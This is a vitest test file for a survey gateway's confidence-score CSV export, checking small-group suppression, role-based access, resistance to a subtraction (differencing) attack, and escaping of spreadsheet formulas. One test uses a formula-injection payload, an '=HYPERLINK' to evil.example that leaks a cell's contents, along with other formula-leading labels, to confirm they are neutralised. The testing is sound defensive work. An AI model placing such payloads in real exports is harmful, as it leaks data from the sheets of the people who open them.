import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEMO_FORCE,
  DEMO_NEIGHBOURHOODS,
  createLogger,
  stableId,
  type Actor,
} from '@engage/shared';
import { signAccessToken } from '@engage/shared/auth';
import { startService, type RunningHttpServer, type RunningService } from '@engage/shared/graphql';
import { createTestDatabase, testSecret, type TestDatabase } from '@engage/shared/testing';
import { surveysService } from '@engage/surveys/service';
import { AGE_BANDS, GENDERS } from '@engage/shared/demographics';
import { composeSupergraph } from '../src/compose/compose.ts';
import { confidenceCsv, type ExportCell } from '../src/exports/confidence-csv.ts';
import { startGateway } from '../src/gateway.ts';
import {
  emptyView,
  learn,
  structure,
} from '../../services/surveys/test/support/attack/published-view.ts';
import { subtractionAttack } from '../../services/surveys/test/support/attack/subtraction-attack.ts';
import { receiveDemoTeams } from '../../services/surveys/test/support/survey-test-stack.ts';
import {
  TEMPTING_ROUNDS,
  seedTemptingRounds,
} from '../../services/surveys/test/support/attack/tempting-data.ts';

const secrets = { access: testSecret(), signing: testSecret() };
process.env['INVITATION_SIGNING_SECRET'] ??= testSecret();
process.env['PORTAL_URL'] ??= 'http://127.0.0.1:5173';

let database: TestDatabase;
let surveys: RunningService;
let gateway: RunningHttpServer;

beforeAll(async () => {
  database = await createTestDatabase();
  const logger = createLogger('test', 'warn');
  surveys = await startService(surveysService, {
    databaseUrl: database.url,
    port: 0,
    gatewaySecret: secrets.signing,
    seedDemoData: true,
    logger,
  });
  await seedTemptingRounds(surveys.orm.em.fork());
  await receiveDemoTeams(surveys);
  gateway = await startGateway({
    supergraphSdl: await composeSupergraph(),
    subgraphUrls: { surveys: `${surveys.url}/graphql` },
    accessSecret: secrets.access,
    signingSecret: secrets.signing,
    port: 0,
    logger,
  });
});
afterAll(async () => {
  await gateway?.stop();
  await surveys?.stop();
  await database?.drop();
});

const analyst: Actor = { kind: 'staff', id: 'a-1', name: 'Analyst', role: 'ANALYST' };
const reviewer: Actor = { kind: 'staff', id: 'r-1', name: 'Reviewer', role: 'REVIEWER' };
const may2024 = stableId('round', 'May 2024');

/** Our rows hold ids, labels like "May 2024", codes and numbers: no quoting to undo. */
function parse(text: string): Record<string, string>[] {
  expect(text).not.toContain('"');
  const [header, ...lines] = text.trimEnd().split('\n');
  const names = header!.split(',');
  return lines.map((line) => Object.fromEntries(line.split(',').map((v, i) => [names[i]!, v])));
}

const download = async (query: string, actor?: Actor) =>
  fetch(`${gateway.url}/exports/confidence.csv?${query}`, {
    headers: actor
      ? { authorization: `Bearer ${await signAccessToken(actor, secrets.access)}` }
      : {},
  });

describe('the confidence CSV export', () => {
  it('gives an analyst NPA × age band as one row per cell and measure, small groups as "suppressed"', async () => {
    const response = await download(
      `level=POLICING_AREA&groupBy=AGE_BAND&roundIds=${may2024}`,
      analyst,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="confidence-policing_area-age_band.csv"',
    );
    const rows = parse(await response.text());
    // The same table through /graphql, to compare with.
    const { data } = (await (
      await fetch(`${gateway.url}/graphql`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          authorization: `Bearer ${await signAccessToken(analyst, secrets.access)}`,
        },
        body: JSON.stringify({
          query: `query($r: [ID!]) { confidenceScores(level: POLICING_AREA, groupBy: AGE_BAND, roundIds: $r) {
            policingAreaId group confidence { value respondents suppressed } } }`,
          variables: { r: [may2024] },
        }),
      })
    ).json()) as {
      data: {
        confidenceScores: {
          policingAreaId: string;
          group: string;
          confidence: { value: number | null; respondents: number | null; suppressed: boolean };
        }[];
      };
    };
    const cells = data.confidenceScores;
    expect(rows).toHaveLength(cells.length * 6);
    expect(new Set(rows.map((row) => row['measure']))).toEqual(
      new Set(['CONFIDENCE', 'Q1', 'Q2', 'Q3', 'Q4', 'Q5']),
    );
    for (const cell of cells) {
      const row = rows.find(
        (r) =>
          r['measure'] === 'CONFIDENCE' &&
          r['policing_area_id'] === cell.policingAreaId &&
          r['group'] === cell.group,
      )!;
      expect(row['round']).toBe('May 2024');
      // Named beside the id, from the teams the surveys service knows.
      expect(row['policing_area_name']).toBe(
        DEMO_FORCE.find((area) => area.id === cell.policingAreaId)!.name,
      );
      if (cell.confidence.suppressed) {
        expect([row['value'], row['lower'], row['upper'], row['respondents']]).toEqual(
          Array(4).fill('suppressed'),
        );
      } else {
        expect(Number(row['value'])).toBeCloseTo(cell.confidence.value!, 2);
        expect(Number(row['respondents'])).toBe(cell.confidence.respondents);
      }
    }
    expect(cells.some((cell) => cell.confidence.suppressed)).toBe(true);
    // No suppressed cell leaks a number anywhere in its rows.
    const suppressedRows = rows.filter((r) => r['value'] === 'suppressed');
    expect(suppressedRows.every((r) => r['respondents'] === 'suppressed')).toBe(true);
    expect(rows.every((r) => r['value'] === 'suppressed' || /^\d+\.\d{2}$/.test(r['value']!))).toBe(
      true,
    );
  });

  it('gives back no hidden figure to a reader who downloads every level, breakdown and sample', async () => {
    const roundIds = TEMPTING_ROUNDS.map((round) => round.id);
    const samples = ['VERIFIED', 'OPEN_LINK', 'ALL'];
    const view = emptyView();
    for (const sample of samples) {
      for (const level of ['FORCE', 'POLICING_AREA', 'NEIGHBOURHOOD']) {
        for (const groupBy of ['NONE', 'AGE_BAND', 'GENDER']) {
          const response = await download(
            `level=${level}&groupBy=${groupBy}&sample=${sample}&roundIds=${roundIds.join(',')}`,
            analyst,
          );
          expect(response.status).toBe(200);
          for (const row of parse(await response.text())) {
            expect(row['sample']).toBe(sample);
            const areaId =
              level === 'FORCE'
                ? null
                : level === 'POLICING_AREA'
                  ? row['policing_area_id']!
                  : row['neighbourhood_id']!;
            if (level === 'NEIGHBOURHOOD') {
              const team = DEMO_NEIGHBOURHOODS.find((n) => n.id === row['neighbourhood_id']);
              expect(row['neighbourhood_name']).toBe(team!.name);
            }
            const hidden = row['value'] === 'suppressed';
            learn(
              view,
              { roundId: row['round_id']!, sample, level, areaId, group: row['group'] || null },
              row['measure']!,
              {
                value: hidden ? null : Number(row['value']),
                respondents: hidden ? null : Number(row['respondents']),
                suppressed: hidden,
              },
            );
          }
        }
      }
    }
    expect(view.hidden.size).toBeGreaterThan(0);
    const sums = structure(roundIds, samples, [AGE_BANDS, GENDERS]);
    expect([...subtractionAttack(view, sums).keys()]).toEqual([]);
  });

  it('writes a round label that looks like a formula as text, and numbers as numbers', () => {
    const figure = { value: 52.5, lower: 40, upper: 61.25, respondents: 40, suppressed: false };
    const cell: ExportCell = {
      round: { id: 'r-1', label: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
      level: 'FORCE',
      policingAreaId: null,
      policingAreaName: null,
      neighbourhoodId: null,
      neighbourhoodName: null,
      groupBy: 'NONE',
      group: '@SUM(1+1)',
      confidence: figure,
      questions: [{ question: { code: 'Q1' }, figure }],
      change: { points: -3.25, significant: true, suppressed: false },
      sample: 'VERIFIED',
    };
    const [header, first] = confidenceCsv([cell]).split('\n');
    expect(header).toContain(',sample');
    expect(first).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",r-1,FORCE,,,,,NONE,'@SUM(1+1),` +
        'CONFIDENCE,52.50,40.00,61.25,40,-3.25,true,VERIFIED',
    );
    for (const label of ['+1+1', '-1+1', '\t=1', '\r=1']) {
      const text = confidenceCsv([{ ...cell, round: { id: 'r', label } }]);
      expect(text.split('\n')[1]!.replace(/^"/, '')).toMatch(/^'/);
    }
  });

  it('refuses a caller without a token, with a bad token, or without the right role', async () => {
    expect((await download('level=FORCE')).status).toBe(401);
    const bad = await fetch(`${gateway.url}/exports/confidence.csv?level=FORCE`, {
      headers: { authorization: 'Bearer not-a-token' },
    });
    expect(bad.status).toBe(401);
    expect((await download('level=FORCE', reviewer)).status).toBe(403);
    expect((await download('level=NOWHERE', analyst)).status).toBe(400);
    expect((await download('level=FORCE&sample=MADE_UP', analyst)).status).toBe(400);
  });

  it('leaves /graphql and /healthz answering as before', async () => {
    expect((await fetch(`${gateway.url}/healthz`)).status).toBe(200);
    const response = await fetch(`${gateway.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query: '{ confidenceTrend(level: FORCE) { round { label } } }' }),
    });
    const body = (await response.json()) as {
      data: { confidenceTrend: { round: { label: string } }[] };
    };
    const rounds = (await (
      await fetch(`${gateway.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ query: '{ surveyRounds { label status } }' }),
      })
    ).json()) as { data: { surveyRounds: { label: string; status: string }[] } };
    // Every closed round, the demo's (15 or 16, by today's date) and the two seeded here.
    const closed = rounds.data.surveyRounds.filter((round) => round.status === 'CLOSED');
    expect(closed.length).toBeGreaterThanOrEqual(17);
    expect(body.data.confidenceTrend.map((point) => point.round.label).sort()).toEqual(
      closed.map((round) => round.label).sort(),
    );
    expect(DEMO_FORCE).toHaveLength(9);
  });
});
